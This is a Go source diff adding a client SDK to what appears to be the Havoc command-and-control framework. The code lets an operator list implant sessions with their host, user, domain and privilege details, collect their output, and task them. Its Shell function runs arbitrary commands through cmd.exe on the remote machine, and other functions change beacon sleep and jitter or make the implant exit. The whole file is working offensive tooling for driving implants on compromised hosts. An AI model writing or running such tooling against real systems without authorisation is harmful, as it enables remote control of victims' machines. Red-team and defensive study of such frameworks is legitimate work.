@@ -0,0 +1,335 @@
+package sdk
+
+import (
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"strconv"
+	"strings"
+
+	"Havoc/pkg/agent"
+	"Havoc/pkg/packager"
+	"Havoc/pkg/utils"
+)
+
+// Agent
+// a session as the teamserver announces it.
+type Agent struct {
+	ID          string `json:"NameID"`
+	Hostname    string `json:"Hostname"`
+	Username    string `json:"Username"`
+	DomainName  string `json:"DomainName"`
+	InternalIP  string `json:"InternalIP"`
+	ExternalIP  string `json:"ExternalIP"`
+	ProcessName string `json:"ProcessName"`
+	ProcessPID  string `json:"ProcessPID"`
+	ProcessArch string `json:"ProcessArch"`
+	OSVersion   string `json:"OSVersion"`
+	Elevated    string `json:"Elevated"`
+	Workspace   string `json:"Workspace"`
+	FirstCallIn string `json:"FirstCallIn"`
+	LastCallIn  string `json:"LastCallIn"`
+	SleepDelay  int    `json:"SleepDelay"`
+	SleepJitter int    `json:"SleepJitter"`
+	MagicValue  string `json:"MagicValue"`
+
+	Active bool `json:"-"`
+}
+
+// Output
+// what an agent printed. TaskID is set if the output answers a task.
+type Output struct {
+	AgentID   string
+	TaskID    string
+	CommandID int
+
+	// Good, Info, Error or Warning
+	Type    string
+	Message string
+	Output  string
+
+	// kind of the failure of an Error (agent.ERROR_CODE_*), the win32 error
+	// or ntstatus the agent reported is in the ErrorStatus and ErrorName fields
+	ErrorCode string
+
+	// chunk of the output of a task that is still running. Sequence orders
+	// the chunks of the task, Final marks the last one
+	Partial  bool
+	Sequence int
+	Final    bool
+
+	// the raw fields of the output (eg: MiscType and MiscData of files)
+	Fields map[string]string
+}
+
+// session
+// keeps track of the agents from the session packages.
+func (c *Client) session(Package packager.Package) {
+	switch Package.Body.SubEvent {
+
+	case packager.Type.Session.NewSession:
+		var (
+			Data, _ = json.Marshal(Package.Body.Info)
+			Agent   = new(Agent)
+		)
+
+		if err := json.Unmarshal(Data, Agent); err != nil || len(Agent.ID) == 0 {
+			return
+		}
+
+		Agent.Active = fmt.Sprint(Package.Body.Info["Active"]) != "false"
+
+		c.mutex.Lock()
+		c.agents[Agent.ID] = Agent
+		c.mutex.Unlock()
+
+	case packager.Type.Session.MarkAsDead:
+		var AgentID, _ = Package.Body.Info["AgentID"].(string)
+
+		c.mutex.Lock()
+		if Agent, ok := c.agents[AgentID]; ok {
+			Agent.Active = Package.Body.Info["Marked"] != "Dead"
+		}
+		c.mutex.Unlock()
+
+	case packager.Type.Session.Remove:
+		var AgentID, _ = Package.Body.Info["AgentID"].(string)
+
+		c.mutex.Lock()
+		delete(c.agents, AgentID)
+		c.mutex.Unlock()
+
+	case packager.Type.Session.Output:
+		var Output, ok = ParseOutput(Package)
+
+		if !ok {
+			return
+		}
+
+		if Output.CommandID != agent.COMMAND_NOJOB {
+			c.mutex.Lock()
+			if Outputs, ok := c.tasks[Output.TaskID]; ok {
+				select {
+				case Outputs <- Output:
+				default:
+				}
+			}
+			c.mutex.Unlock()
+
+			return
+		}
+
+		/* the check-ins of the agents */
+		c.mutex.Lock()
+		if Agent, ok := c.agents[Output.AgentID]; ok {
+			Agent.LastCallIn = Output.Fields["Last"]
+			Agent.SleepDelay, _ = strconv.Atoi(Output.Fields["Sleep"])
+			Agent.SleepJitter, _ = strconv.Atoi(Output.Fields["Jitter"])
+		}
+		c.mutex.Unlock()
+
+	}
+}
+
+// ParseOutput
+// decodes the output of an agent from its session package.
+func ParseOutput(Package packager.Package) (Output, bool) {
+	var (
+		Output = Output{
+			Fields: make(map[string]string),
+		}
+		Encoded, _ = Package.Body.Info["Output"].(string)
+	)
+
+	if Package.Head.Event != packager.Type.Session.Type || Package.Body.SubEvent != packager.Type.Session.Output {
+		return Output, false
+	}
+
+	Output.AgentID, _ = Package.Body.Info["DemonID"].(string)
+	Output.CommandID, _ = strconv.Atoi(fmt.Sprint(Package.Body.Info["CommandID"]))
+
+	Data, err := base64.StdEncoding.DecodeString(Encoded)
+	if err != nil {
+		return Output, false
+	}
+
+	if err = json.Unmarshal(Data, &Output.Fields); err != nil {
+		return Output, false
+	}
+
+	Output.TaskID = Output.Fields["TaskID"]
+	Output.Type = Output.Fields["Type"]
+	Output.Message = Output.Fields["Message"]
+	Output.Output = Output.Fields["Output"]
+	Output.ErrorCode = Output.Fields["ErrorCode"]
+	Output.Partial = Output.Fields["Partial"] == "true"
+	Output.Sequence, _ = strconv.Atoi(Output.Fields["Sequence"])
+	Output.Final = Output.Fields["Final"] == "true"
+
+	return Output, true
+}
+
+// Agents
+// returns the agents the teamserver announced so far.
+func (c *Client) Agents() []Agent {
+	c.mutex.Lock()
+	defer c.mutex.Unlock()
+
+	var Agents = make([]Agent, 0, len(c.agents))
+
+	for _, Agent := range c.agents {
+		Agents = append(Agents, *Agent)
+	}
+
+	return Agents
+}
+
+// Agent
+// returns the agent with the id.
+func (c *Client) Agent(ID string) (Agent, bool) {
+	c.mutex.Lock()
+	defer c.mutex.Unlock()
+
+	if Agent, ok := c.agents[ID]; ok {
+		return *Agent, true
+	}
+
+	return Agent{}, false
+}
+
+// OnAgent
+// calls the handler with every agent the teamserver announces.
+func (c *Client) OnAgent(Handler func(Agent Agent)) func() {
+	return c.Subscribe(packager.Type.Session.Type, func(Package packager.Package) {
+		if Package.Body.SubEvent != packager.Type.Session.NewSession {
+			return
+		}
+
+		var AgentID, _ = Package.Body.Info["NameID"].(string)
+
+		if Agent, ok := c.Agent(AgentID); ok {
+			Handler(Agent)
+		}
+	})
+}
+
+// OnOutput
+// calls the handler with everything the agents print. Check-ins of the
+// agents aren't passed on.
+func (c *Client) OnOutput(Handler func(Output Output)) func() {
+	return c.Subscribe(packager.Type.Session.Type, func(Package packager.Package) {
+		if Output, ok := ParseOutput(Package); ok && Output.CommandID != agent.COMMAND_NOJOB {
+			Handler(Output)
+		}
+	})
+}
+
+// Await
+// waits for the next output that answers the task. Outputs arriving
+// before Await got called aren't lost. Use OnOutput to follow tasks
+// that print more than TASK_OUTPUTS outputs.
+func (c *Client) Await(ctx context.Context, TaskID string) (Output, error) {
+	c.mutex.Lock()
+	var Outputs, ok = c.tasks[TaskID]
+	c.mutex.Unlock()
+
+	if !ok {
+		return Output{}, fmt.Errorf("task %v wasn't created by this client", TaskID)
+	}
+
+	select {
+	case Output := <-Outputs:
+		return Output, nil
+
+	case <-ctx.Done():
+		return Output{}, ctx.Err()
+
+	case <-c.done:
+		return Output{}, errors.New("connection to the teamserver dropped")
+	}
+}
+
+// Forget
+// stops keeping the outputs of the task for Await.
+func (c *Client) Forget(TaskID string) {
+	c.mutex.Lock()
+	defer c.mutex.Unlock()
+
+	delete(c.tasks, TaskID)
+}
+
+// Task
+// tasks the agent with the command (agent.COMMAND_*). Arguments are the
+// fields the command expects, the same the operator client sends.
+// Returns the id of the task its output gets tagged with.
+func (c *Client) Task(AgentID string, Command int, CommandLine string, Arguments map[string]any) (string, error) {
+	var (
+		TaskID = strings.ToUpper(utils.GenerateID(8))
+		Info   = map[string]any{
+			"DemonID":     AgentID,
+			"TaskID":      TaskID,
+			"CommandID":   strconv.Itoa(Command),
+			"CommandLine": CommandLine,
+		}
+	)
+
+	if _, ok := c.Agent(AgentID); !ok {
+		return "", fmt.Errorf("agent %v not found", AgentID)
+	}
+
+	for Key, Value := range Arguments {
+		Info[Key] = Value
+	}
+
+	c.mutex.Lock()
+	c.tasks[TaskID] = make(chan Output, TASK_OUTPUTS)
+	c.mutex.Unlock()
+
+	if err := c.Send(packager.Type.Session.Type, packager.Type.Session.Input, Info); err != nil {
+		c.Forget(TaskID)
+		return "", err
+	}
+
+	return TaskID, nil
+}
+
+// Shell
+// runs the command with cmd.exe on the agent.
+func (c *Client) Shell(AgentID, Command string) (string, error) {
+	var Arguments = base64.StdEncoding.EncodeToString([]byte("/c " + Command))
+
+	return c.Task(AgentID, agent.COMMAND_PROC, "shell "+Command, map[string]any{
+		"ProcCommand": strconv.Itoa(agent.DEMON_COMMAND_PROC_CREATE),
+		"Args":        `0;FALSE;TRUE;c:\windows\system32\cmd.exe;` + Arguments,
+	})
+}
+
+// Sleep
+// changes the sleep (seconds) and jitter (percent) of the agent.
+func (c *Client) Sleep(AgentID string, Delay, Jitter int) (string, error) {
+	return c.Task(AgentID, agent.COMMAND_SLEEP, fmt.Sprintf("sleep %v %v", Delay, Jitter), map[string]any{
+		"Arguments": fmt.Sprintf("%v;%v", Delay, Jitter),
+	})
+}
+
+// Checkin
+// asks the agent for its metadata again.
+func (c *Client) Checkin(AgentID string) (string, error) {
+	return c.Task(AgentID, agent.COMMAND_CHECKIN, "checkin", nil)
+}
+
+// Exit
+// tells the agent to exit its thread or its process.
+func (c *Client) Exit(AgentID string, Process bool) (string, error) {
+	var Method = "thread"
+
+	if Process {
+		Method = "process"
+	}
+
+	return c.Task(AgentID, agent.COMMAND_EXIT, "exit "+Method, map[string]any{
+		"ExitMethod": Method,
+	})
+}